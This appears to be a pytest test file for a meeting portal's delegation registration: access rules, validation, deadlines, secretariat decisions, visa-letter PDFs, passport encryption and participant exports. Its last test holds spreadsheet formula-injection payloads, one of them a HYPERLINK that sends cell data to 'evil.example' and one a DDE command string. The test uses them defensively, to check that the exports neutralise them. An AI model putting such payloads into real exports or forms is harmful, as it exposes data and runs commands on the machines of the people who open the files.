"""Delegation registration: the meeting's settings, the organisation's delegation and its participants,
every transition and its mail, the rules of the deadline, bad input, access, visa support letters (read
back from the PDF), the summary, the exports for badges, the published list of participants."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime, timedelta, timezone

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import func, select

from portal.extensions import db
from portal.models import (
    AuditEntry,
    Delegation,
    DelegationEvent,
    DelegationState,
    Participant,
    ParticipationMode,
    RegistrationStatus,
    VisaLetter,
)
from tests.conftest import login, mail_to, sent_mail

D = DelegationState
PASSPORT = "X1234567"


@pytest.fixture
def reg(make):
    """A Forum open for registration, two verified organisations, one unverified, the secretariat."""
    meeting = make.meeting("FORUM-2027", title="WSIS Forum 2027", symbol_prefix="WSIS/FORUM-2027",
                           registration=RegistrationStatus.OPEN, participation=ParticipationMode.BOTH,
                           registration_deadline_at=datetime.now(timezone.utc) + timedelta(days=30),
                           max_delegation_size=5)
    gov = make.organisation("Ministère de l'Économie numérique du Sénégal", country="SN")
    alice = make.user("alice@gouv.sn", organisation=gov, focal_point=True, name="Alice Diop")
    bob = make.user("bob@gouv.sn", organisation=gov, name="Bob Fall")
    cs = make.organisation("Civil Society Caucus", stakeholder_type="civil_society", country="CH")
    dan = make.user("dan@caucus.example", organisation=cs, focal_point=True, name="Dan")
    fake = make.organisation("Unverified Ministry", verified=False)
    eve = make.user("eve@unverified.example", organisation=fake, focal_point=True, name="Eve")
    pending = make.user("pending@gouv.sn", organisation=gov, membership="pending", name="Pending")
    sec = make.user("sec@itu.example", role="secretariat", name="Officer")
    return type("Reg", (), dict(meeting=meeting, gov=gov, alice=alice, bob=bob, cs=cs, dan=dan, fake=fake,
                                eve=eve, pending=pending, sec=sec))


def person(**over) -> dict:
    data = {"full_name": "Aminata Ndiaye", "function": "Minister of Communications", "email": "aminata@gouv.sn",
            "gender": "woman", "participation": "in_person", "arrival": "2027-02-28", "departure": "2027-03-05",
            "accessibility_needs": "", "nationality": "", "passport": ""}
    data.update(over)
    for flag in ("is_head", "needs_visa"):
        if data.get(flag) in (False, None):
            data.pop(flag, None)
    return data


def add(client, meeting, **over):
    return client.post_form(f"/meetings/{meeting.code}/delegation/participants", person(**over),
                            page=f"/meetings/{meeting.code}/delegation")


def submit(client, meeting):
    return client.post_form(f"/meetings/{meeting.code}/delegation/submit", page=f"/meetings/{meeting.code}/delegation")


def the_delegation(org) -> Delegation:
    db.session.expire_all()
    return db.session.scalar(select(Delegation).where(Delegation.organisation_id == org.id))


def decide(client, d, decision, comment=""):
    return client.post_form(f"/secretariat/delegations/{d.id}/decide",
                            {"decision": decision, "comment": comment, "lock": str(d.lock_version)},
                            page=f"/secretariat/delegations/{d.id}")


def register_three(client, meeting):
    assert add(client, meeting, is_head="y", needs_visa="y", nationality="SN", passport=PASSPORT).status_code == 302
    assert add(client, meeting, full_name="Иван Петрович Сидоров", function="Adviser", email="ivan@gouv.sn",
               gender="man", participation="online").status_code == 302
    assert add(client, meeting, full_name="محمد بن عبد العزيز", function="Director", email="m@gouv.sn",
               gender="man", needs_visa="y", nationality="EG", passport="A7654321").status_code == 302


# The meeting's settings ------------------------------------------------------------------------------

def test_the_secretariat_opens_registration_in_the_meeting_form(client, make, reg):
    login(client, reg.sec.email)
    page = client.get("/meetings/FORUM-2027/edit").get_data(as_text=True)
    for label in ("Registration", "Registration deadline", "Maximum delegation size", "Participation"):
        assert f">{label}</label>" in page
    r = client.post_form("/meetings/FORUM-2027/edit", {
        "code": "FORUM-2027", "title": "WSIS Forum 2027", "type": "forum", "place": "Geneva", "start_date": "2027-03-01",
        "end_date": "2027-03-05", "deadline_tz": "Europe/Zurich", "symbol_prefix": "WSIS/FORUM-2027", "status": "open",
        "registration": "until_deadline", "registration_deadline": "2027-02-01T18:00", "max_delegation_size": "12",
        "participation": "in_person"}, page="/meetings/FORUM-2027/edit")
    assert r.status_code == 302
    db.session.expire_all()
    m = reg.meeting
    assert m.registration == RegistrationStatus.UNTIL_DEADLINE and m.max_delegation_size == 12
    assert m.registration_deadline_at == datetime(2027, 2, 1, 17, 0, tzinfo=timezone.utc)  # 18:00 in Geneva
    assert m.participation == ParticipationMode.IN_PERSON


def test_meetings_of_the_record_stay_closed(app, client):
    from portal.models import Meeting
    for m in db.session.scalars(select(Meeting)):
        assert m.registration == RegistrationStatus.CLOSED
    assert "Register a delegation" not in client.get("/meetings/PC-3").get_data(as_text=True)


# Who may register ------------------------------------------------------------------------------------------

def test_the_register_link_is_for_those_who_may_register(app, client, reg):
    def page(email):
        c = app.test_client()
        if email:
            login(c, email)
        return c.get("/meetings/FORUM-2027").get_data(as_text=True)

    assert "Register a delegation" in page(reg.alice.email)
    assert "Register a delegation" not in page(reg.bob.email)  # a member the focal point has not allowed
    assert "Register a delegation" not in page(reg.eve.email)  # an unverified organisation
    assert "Register a delegation" not in page(None)
    for email in (reg.bob.email, reg.eve.email, reg.pending.email):
        c = app.test_client()
        login(c, email)
        assert c.get("/meetings/FORUM-2027/delegation").status_code == 404


def test_a_focal_point_allows_a_member_to_register(app, client, reg):
    login(client, reg.alice.email)
    m = reg.bob.membership
    r = client.post_form(f"/memberships/{m.id}/may-register", {"value": "1"}, page="/organisation/members")
    assert r.status_code == 302
    bob = app.test_client()
    login(bob, reg.bob.email)
    assert bob.get("/meetings/FORUM-2027/delegation").status_code == 200
    assert "Register a delegation" in bob.get("/meetings/FORUM-2027").get_data(as_text=True)


# The delegation ----------------------------------------------------------------------------------------------

def test_the_delegation_form_has_the_labels_people_look_for(client, reg):
    login(client, reg.alice.email)
    page = client.get("/meetings/FORUM-2027/delegation").get_data(as_text=True)
    for label in ("Full name", "Function", "Email", "Gender", "Participation", "Head of delegation"):
        assert f">{label}</label>" in page, label
    assert 'value="Add participant"' in page
    assert "The list of participants (organisation, country, name and function) is an official document" in page


def test_a_focal_point_registers_three_people_and_submits(app, client, reg):
    login(client, reg.alice.email)
    register_three(client, reg.meeting)
    d = the_delegation(reg.gov)
    assert d.state == D.DRAFT and len(d.participants) == 3 and d.head.full_name == "Aminata Ndiaye"
    page = client.get("/meetings/FORUM-2027/delegation").get_data(as_text=True)
    assert "Иван Петрович Сидоров" in page and 'value="Submit registration"' not in page  # a button element
    assert ">Submit registration</button>" in page
    r = submit(client, reg.meeting)
    assert r.status_code == 302
    d = the_delegation(reg.gov)
    assert d.state == D.SUBMITTED and not d.late and d.submitted_at is not None
    assert [m["Subject"] for m in mail_to(app, reg.alice.email)] == ["Registration received: WSIS Forum 2027"]
    assert mail_to(app, reg.bob.email) == []  # focal points are told
    actions = [e.action for e in db.session.scalars(select(DelegationEvent).order_by(DelegationEvent.id))]
    assert actions == ["create", "participant.add", "participant.add", "participant.add", "submit"]
    assert db.session.scalar(select(func.count(AuditEntry.id)).where(AuditEntry.action == "delegation.submit")) == 1


def test_the_passport_number_is_stored_encrypted_and_never_shown_to_the_organisation(app, client, reg, caplog):
    login(client, reg.alice.email)
    add(client, reg.meeting, is_head="y", needs_visa="y", nationality="SN", passport=PASSPORT,
        accessibility_needs="Wheelchair access")
    p = db.session.scalar(select(Participant))
    raw = db.session.execute(select(Participant.passport_encrypted)).scalar_one()
    assert PASSPORT.encode() not in raw and b"Wheelchair" not in raw
    page = client.get("/meetings/FORUM-2027/delegation").get_data(as_text=True)
    assert PASSPORT not in page and "Wheelchair access" not in page
    edit = client.get(f"/meetings/FORUM-2027/delegation/participants/{p.id}").get_data(as_text=True)
    assert PASSPORT not in edit and "Leave empty to keep the number given before" in edit
    assert "Wheelchair access" not in edit and "Needs were given before" in edit
    # Saving the form as shown keeps both; ticking the box removes the needs.
    url = f"/meetings/FORUM-2027/delegation/participants/{p.id}"
    client.post_form(url, person(is_head="y", needs_visa="y", nationality="SN"), page=url)
    db.session.expire_all()
    p = db.session.get(Participant, p.id)
    assert p.accessibility_needs == "Wheelchair access" and p.passport_encrypted
    client.post_form(url, person(is_head="y", needs_visa="y", nationality="SN", remove_needs="y"), page=url)
    db.session.expire_all()
    assert db.session.get(Participant, p.id).accessibility_needs is None
    assert PASSPORT not in caplog.text
    for message in sent_mail(app):
        assert PASSPORT not in message.get_content()


# Bad input: a clear message at the field, what was typed kept, nothing saved --------------------------------

@pytest.mark.parametrize("over, field, message", [
    (dict(email="not an address"), "email", "Enter a valid email address."),
    (dict(departure="2027-02-01"), "departure", "The departure cannot be before the arrival."),
    (dict(needs_visa="y", nationality="SN"), "passport", "Give the passport number for the visa support letter."),
    (dict(needs_visa="y", passport=PASSPORT), "nationality", "Give the nationality for the visa support letter."),
    (dict(full_name=""), "full_name", "Give the participant's full name."),
    (dict(gender="robot"), "gender", "Choose one."),
])
def test_bad_participant_input_is_a_clear_message_and_nothing_is_saved(client, reg, over, field, message):
    login(client, reg.alice.email)
    r = add(client, reg.meeting, **over)
    page = r.get_data(as_text=True)
    assert r.status_code == 400
    assert re.search(rf'id="{field}-error"[^>]*>\s*<span>{re.escape(message)}</span>', page), page[-3000:]
    assert 'value="Minister of Communications"' in page  # what was typed is kept
    assert db.session.scalar(select(func.count(Participant.id))) == 0


def test_a_second_head_of_delegation_is_refused_at_its_field(client, reg):
    login(client, reg.alice.email)
    add(client, reg.meeting, is_head="y")
    r = add(client, reg.meeting, full_name="Moussa Sow", email="moussa@gouv.sn", is_head="y")
    page = r.get_data(as_text=True)
    assert r.status_code == 400
    assert "Aminata Ndiaye is already the head of delegation." in page and 'value="Moussa Sow"' in page
    assert db.session.scalar(select(func.count(Participant.id))) == 1


def test_a_person_is_in_one_delegation_per_meeting_and_the_form_says_in_which(app, client, reg):
    login(client, reg.alice.email)
    add(client, reg.meeting, is_head="y")
    other = app.test_client()
    login(other, reg.dan.email)
    r = add(other, reg.meeting, email="AMINATA@gouv.sn", is_head="y")
    assert r.status_code == 400
    assert ("This person is already registered for this meeting, in the delegation of Ministère de "
            "l&#39;Économie numérique du Sénégal.") in r.get_data(as_text=True)
    assert db.session.scalar(select(func.count(Participant.id))) == 1


def test_a_delegation_over_the_maximum_size_is_refused(client, reg):
    reg.meeting.max_delegation_size = 2
    db.session.commit()
    login(client, reg.alice.email)
    add(client, reg.meeting, is_head="y")
    add(client, reg.meeting, full_name="Two", email="two@gouv.sn")
    r = add(client, reg.meeting, full_name="Three", email="three@gouv.sn")
    assert r.status_code == 400 and "A delegation to this meeting has at most 2 participants." in r.get_data(as_text=True)
    assert db.session.scalar(select(func.count(Participant.id))) == 2


def test_participation_follows_the_meeting(client, reg):
    reg.meeting.participation = ParticipationMode.ONLINE
    db.session.commit()
    login(client, reg.alice.email)
    r = add(client, reg.meeting, is_head="y", participation="in_person")
    assert r.status_code == 400 and "Choose how the participant takes part." in r.get_data(as_text=True)


def test_submitting_needs_exactly_one_head(client, reg):
    login(client, reg.alice.email)
    add(client, reg.meeting)
    submit(client, reg.meeting)
    assert the_delegation(reg.gov).state == D.DRAFT
    page = client.get("/meetings/FORUM-2027/delegation").get_data(as_text=True)
    assert "Name exactly one head of delegation." in page


# The deadline ---------------------------------------------------------------------------------------------

def _deadline_passed(meeting, status):
    meeting.registration = status
    meeting.registration_deadline_at = datetime.now(timezone.utc) - timedelta(hours=1)
    db.session.commit()


def test_after_the_deadline_a_late_registration_is_flagged_if_the_meeting_accepts_it(client, reg):
    login(client, reg.alice.email)
    add(client, reg.meeting, is_head="y")
    _deadline_passed(reg.meeting, RegistrationStatus.OPEN)
    page = client.get("/meetings/FORUM-2027/delegation").get_data(as_text=True)
    assert "The deadline has passed: the registration will be marked late." in page
    submit(client, reg.meeting)
    d = the_delegation(reg.gov)
    assert d.state == D.SUBMITTED and d.late
    # A submitted registration can no longer be changed by the organisation after the deadline.
    r = add(client, reg.meeting, full_name="Late", email="late@gouv.sn")
    assert r.status_code == 400
    assert "a submitted registration can no longer be changed" in r.get_data(as_text=True)


def test_after_the_deadline_a_meeting_that_refuses_late_registrations_takes_none(client, reg):
    login(client, reg.alice.email)
    add(client, reg.meeting, is_head="y")
    _deadline_passed(reg.meeting, RegistrationStatus.UNTIL_DEADLINE)
    submit(client, reg.meeting)
    assert the_delegation(reg.gov).state == D.DRAFT
    page = client.get("/meetings/FORUM-2027/delegation").get_data(as_text=True)
    assert "does not accept late registrations" in page


# The secretariat's decisions ------------------------------------------------------------------------------

def _submitted(client, reg):
    login(client, reg.alice.email)
    register_three(client, reg.meeting)
    submit(client, reg.meeting)
    return the_delegation(reg.gov)


def test_confirmation_issues_the_visa_letters_and_the_letter_carries_the_right_text(app, client, other_client, reg):
    d = _submitted(client, reg)
    login(other_client, reg.sec.email)
    item = other_client.get(f"/secretariat/delegations/{d.id}").get_data(as_text=True)
    assert PASSPORT in item  # the secretariat sees the passport number
    for button in ("Confirm", "Return for changes", "Refuse"):
        assert f">{button}</button>" in item
    assert decide(other_client, d, "confirm").status_code == 302
    d = the_delegation(reg.gov)
    assert d.state == D.CONFIRMED
    letters = db.session.scalars(select(VisaLetter).order_by(VisaLetter.id)).all()
    assert len(letters) == 2  # the two in-person participants who asked; not the online one
    assert "Delegation confirmed: WSIS Forum 2027" in [m["Subject"] for m in mail_to(app, reg.alice.email)]

    page = client.get("/meetings/FORUM-2027/delegation").get_data(as_text=True)
    href = re.search(r'href="(/visa-letters/\d+)"', page).group(1)
    r = client.get(href)
    assert r.status_code == 200 and r.mimetype == "application/pdf"
    assert r.headers["Content-Disposition"].startswith("attachment")
    text = PdfReader(io.BytesIO(r.data)).pages[0].extract_text()
    v = letters[0]
    for expected in ("Visa support letter", "Aminata Ndiaye", "Senegal", PASSPORT, "WSIS Forum 2027",
                     "Geneva, Switzerland", v.reference, "Ministère de l’Économie numérique du Sénégal".replace("’", "'")):
        assert expected in text, expected
    arabic = PdfReader(io.BytesIO(client.get(f"/visa-letters/{letters[1].id}").data)).pages[0].extract_text()
    assert all(word in arabic for word in "محمد بن عبد العزيز".split()) and "A7654321" in arabic and "Egypt" in arabic


def test_names_in_cyrillic_chinese_and_arabic_render_in_a_letter(app):
    from portal import pdf

    with app.test_request_context():
        for name in ("Иван Петрович Сидоров", "张伟", "فاطمة الزهراء", "Zoë Ünal-García"):
            body = pdf.visa_letter(reference="WSIS/T/VISA/1", issued=date(2026, 12, 1), meeting_title="WSIS Forum",
                                   meeting_dates="1-5 March 2027", place="Geneva", full_name=name, function="Adviser",
                                   organisation="Org", nationality="Egypt", passport="P1", arrival=None, departure=None)
            text = PdfReader(io.BytesIO(body)).pages[0].extract_text()
            assert all(word in text for word in name.split()), (name, text)


def test_returning_and_refusing_need_a_comment_that_the_organisation_receives(app, client, other_client, reg):
    d = _submitted(client, reg)
    login(other_client, reg.sec.email)
    r = decide(other_client, d, "return")
    assert r.status_code == 400 and "Say what should be changed." in r.get_data(as_text=True)
    assert the_delegation(reg.gov).state == D.SUBMITTED
    decide(other_client, the_delegation(reg.gov), "return", "Please add the arrival date of the adviser.")
    d = the_delegation(reg.gov)
    assert d.state == D.RETURNED
    mail = mail_to(app, reg.alice.email)[-1]
    assert mail["Subject"] == "Registration returned for changes: WSIS Forum 2027"
    assert "Please add the arrival date of the adviser." in mail.get_content()
    assert "Please add the arrival date" in client.get("/meetings/FORUM-2027/delegation").get_data(as_text=True)
    submit(client, reg.meeting)
    d = the_delegation(reg.gov)
    assert d.state == D.SUBMITTED
    r = decide(other_client, d, "refuse")
    assert r.status_code == 400 and "Give the reason for the refusal." in r.get_data(as_text=True)
    decide(other_client, the_delegation(reg.gov), "refuse", "Not a participant of this meeting.")
    assert the_delegation(reg.gov).state == D.REFUSED


def test_a_decision_on_a_changed_registration_is_refused(client, other_client, reg):
    d = _submitted(client, reg)
    login(other_client, reg.sec.email)
    stale = d.lock_version
    decide(other_client, d, "confirm")
    r = other_client.post_form(f"/secretariat/delegations/{d.id}/decide",
                               {"decision": "refuse", "comment": "x", "lock": str(stale)},
                               page=f"/secretariat/delegations/{d.id}")
    assert r.status_code == 302
    assert "changed or been decided meanwhile" in other_client.get(r.headers["Location"]).get_data(as_text=True)
    assert the_delegation(reg.gov).state == D.CONFIRMED


def test_a_substitution_after_confirmation_goes_back_to_the_secretariat(app, client, other_client, reg):
    d = _submitted(client, reg)
    login(other_client, reg.sec.email)
    decide(other_client, d, "confirm")
    head = the_delegation(reg.gov).head
    r = client.post_form(f"/meetings/FORUM-2027/delegation/participants/{head.id}",
                         person(full_name="Awa Sarr", email="awa@gouv.sn", is_head="y", needs_visa="y",
                                nationality="SN", passport="S999"),
                         page=f"/meetings/FORUM-2027/delegation/participants/{head.id}")
    assert r.status_code == 302
    d = the_delegation(reg.gov)
    assert d.state == D.SUBMITTED and d.changed
    assert all(v.withdrawn_at is not None for v in d.head.letters)  # the letter named someone else
    assert "Change of a confirmed delegation: WSIS Forum 2027" in [m["Subject"] for m in mail_to(app, reg.alice.email)]
    queue = other_client.get("/secretariat/meetings/FORUM-2027/registrations").get_data(as_text=True)
    assert ">change</span>" in queue
    decide(other_client, d, "confirm")
    d = the_delegation(reg.gov)
    assert d.state == D.CONFIRMED and not d.changed and d.head.letter is not None


def test_bulk_confirmation(client, other_client, app, reg):
    _submitted(client, reg)
    dan = app.test_client()
    login(dan, reg.dan.email)
    add(dan, reg.meeting, full_name="Dan", email="dan@caucus.example", is_head="y", gender="man")
    submit(dan, reg.meeting)
    ids = [str(d.id) for d in db.session.scalars(select(Delegation))]
    login(other_client, reg.sec.email)
    r = other_client.post_form("/secretariat/meetings/FORUM-2027/registrations/decide",
                               {"selected": ids, "decision": "confirm", "comment": ""},
                               page="/secretariat/meetings/FORUM-2027/registrations")
    assert r.status_code == 302
    db.session.expire_all()
    assert {d.state for d in db.session.scalars(select(Delegation))} == {D.CONFIRMED}


def test_cancelling_a_registration(app, client, reg):
    login(client, reg.alice.email)
    add(client, reg.meeting, is_head="y")
    r = client.post_form("/meetings/FORUM-2027/delegation/cancel", {"reason": "No travel budget"},
                         page="/meetings/FORUM-2027/delegation")
    assert r.status_code == 302 and the_delegation(reg.gov).state == D.CANCELLED


# Access -------------------------------------------------------------------------------------------------------

def test_another_organisations_delegation_and_letters_are_404(app, client, other_client, reg):
    d = _submitted(client, reg)
    login(other_client, reg.sec.email)
    decide(other_client, d, "confirm")
    letter = db.session.scalar(select(VisaLetter))
    p = the_delegation(reg.gov).participants[0]
    dan = app.test_client()
    login(dan, reg.dan.email)
    assert dan.get(f"/meetings/FORUM-2027/delegation/participants/{p.id}").status_code == 404
    assert dan.post_form(f"/meetings/FORUM-2027/delegation/participants/{p.id}/remove",
                         page="/meetings/FORUM-2027/delegation").status_code == 404
    assert dan.get(f"/visa-letters/{letter.id}").status_code == 404
    assert app.test_client().get(f"/visa-letters/{letter.id}").status_code in (302, 401, 404)
    bob = app.test_client()  # a member of the same organisation: may download the letter, not register
    login(bob, reg.bob.email)
    assert bob.get(f"/visa-letters/{letter.id}").status_code == 200
    pending = app.test_client()
    login(pending, reg.pending.email)
    assert pending.get(f"/visa-letters/{letter.id}").status_code == 404
    # Withdrawn: nobody downloads it any more.
    other_client.post_form(f"/secretariat/visa-letters/{letter.id}/withdraw", page=f"/secretariat/delegations/{d.id}")
    assert bob.get(f"/visa-letters/{letter.id}").status_code == 404


def test_stakeholders_cannot_reach_the_secretariats_pages(client, reg):
    d = _submitted(client, reg)
    for url in ("/secretariat/registrations", "/secretariat/meetings/FORUM-2027/registrations",
                f"/secretariat/delegations/{d.id}", "/secretariat/meetings/FORUM-2027/participants.csv",
                "/secretariat/meetings/FORUM-2027/participants.xlsx",
                "/secretariat/meetings/FORUM-2027/registrations/summary"):
        assert client.get(url).status_code == 403, url


def test_the_public_sees_counts_never_who(app, client, other_client, reg):
    d = _submitted(client, reg)
    login(other_client, reg.sec.email)
    decide(other_client, d, "confirm")
    page = app.test_client().get("/meetings/FORUM-2027").get_data(as_text=True)
    assert "Registered delegations: 1 (3 participants)" in page and "women: 33% of participants" in page
    for private in ("Aminata", "Иван", "aminata@gouv.sn", PASSPORT):
        assert private not in page
    assert app.test_client().get("/meetings/FORUM-2027/participants").status_code == 404


def test_the_published_list_of_participants(app, client, other_client, reg):
    d = _submitted(client, reg)
    login(other_client, reg.sec.email)
    decide(other_client, d, "confirm")
    other_client.post_form("/secretariat/meetings/FORUM-2027/participants/publish", {"value": "1"},
                           page="/secretariat/meetings/FORUM-2027/registrations")
    page = app.test_client().get("/meetings/FORUM-2027/participants").get_data(as_text=True)
    assert "Aminata Ndiaye" in page and "Minister of Communications" in page and "Senegal" in page
    assert "aminata@gouv.sn" not in page and PASSPORT not in page
    assert "List of participants" in app.test_client().get("/meetings/FORUM-2027").get_data(as_text=True)


# Summary and exports --------------------------------------------------------------------------------------------

def test_the_summary_counts_delegations_participants_and_women(app, client, other_client, reg):
    _submitted(client, reg)
    dan = app.test_client()
    login(dan, reg.dan.email)
    add(dan, reg.meeting, full_name="Lina", email="lina@caucus.example", is_head="y")
    add(dan, reg.meeting, full_name="Omar", email="omar@caucus.example", gender="man", participation="online")
    submit(dan, reg.meeting)
    login(other_client, reg.sec.email)
    page = other_client.get("/secretariat/meetings/FORUM-2027/registrations/summary").get_data(as_text=True)
    rows = {m.group(1): m.group(2) for m in re.finditer(r'<th scope="row">([^<]+)</th>(.*?)</tr>', page, re.S)}
    cells = lambda name: re.findall(r"<td>([^<]*)</td>", rows[name])  # noqa: E731
    assert cells("Government") == ["1", "3", "2", "1", "1 (33%)", "1 / 1"]
    assert cells("Civil society") == ["1", "2", "1", "1", "1 (50%)", "1 / 1"]
    assert cells("All") == ["2", "5", "3", "2", "2 (40%)", "2 / 2"]


def test_the_participants_export_holds_what_badges_need_and_nothing_private(app, client, other_client, reg):
    d = _submitted(client, reg)
    login(other_client, reg.sec.email)
    decide(other_client, d, "confirm")
    r = other_client.get("/secretariat/meetings/FORUM-2027/participants.csv")
    assert r.status_code == 200 and r.mimetype == "text/csv"
    body = r.data.decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert rows[0] == ["Organisation", "Country", "Stakeholder type", "Full name", "Function", "Head of delegation",
                       "Participation", "Arrival", "Departure"]
    assert rows[1] == ["Ministère de l'Économie numérique du Sénégal", "Senegal", "Government", "Aminata Ndiaye",
                       "Minister of Communications", "yes", "In person", "2027-02-28", "2027-03-05"]
    assert len(rows) == 4
    for private in (PASSPORT, "A7654321", "aminata@gouv.sn", "Egypt"):
        assert private not in body
    x = other_client.get("/secretariat/meetings/FORUM-2027/participants.xlsx")
    sheet = load_workbook(io.BytesIO(x.data), read_only=True).active
    assert [[c or "" for c in r] for r in sheet.iter_rows(values_only=True)] == rows  # empty cells read as None
    assert "Participants (CSV)" in other_client.get("/secretariat/meetings/FORUM-2027/registrations").get_data(
        as_text=True)


def test_a_name_that_looks_like_a_formula_stays_text_in_both_exports(app, client, other_client, reg):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    dan = app.test_client()
    login(dan, reg.dan.email)
    add(dan, reg.meeting, full_name=formula, email="lina@caucus.example", is_head="y")
    add(dan, reg.meeting, full_name="+cmd|' /C calc'!A0", email="omar@caucus.example")
    submit(dan, reg.meeting)
    login(other_client, reg.sec.email)
    decide(other_client, db.session.scalar(select(Delegation).order_by(Delegation.id.desc()).limit(1)), "confirm")
    body = other_client.get("/secretariat/meetings/FORUM-2027/participants.csv").data.decode("utf-8")
    names = [r[3] for r in csv.reader(io.StringIO(body.lstrip("\ufeff")))][1:]
    assert sorted(names) == sorted(["'" + formula, "'+cmd|' /C calc'!A0"])
    x = other_client.get("/secretariat/meetings/FORUM-2027/participants.xlsx")
    sheet = load_workbook(io.BytesIO(x.data)).active
    cells = [row[3] for row in sheet.iter_rows(min_row=2)]
    assert {c.value for c in cells} == {formula, "+cmd|' /C calc'!A0"}
    assert {c.data_type for c in cells} == {"s"}  # text, not a formula
